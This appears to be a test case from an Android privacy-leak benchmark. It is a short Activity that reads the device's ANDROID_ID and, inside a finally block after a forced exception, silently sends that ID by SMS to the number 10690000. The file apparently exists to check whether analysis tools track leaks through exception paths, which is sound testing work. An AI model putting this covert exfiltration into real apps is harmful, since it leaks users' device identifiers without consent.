package cn.privlens.suite.finally_sends;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.util.Log;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        try {
            Integer.parseInt("x1");

        } catch (NumberFormatException e) {
            Log.w("suite", "no number");
        } finally {
            SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
        }
    }
}
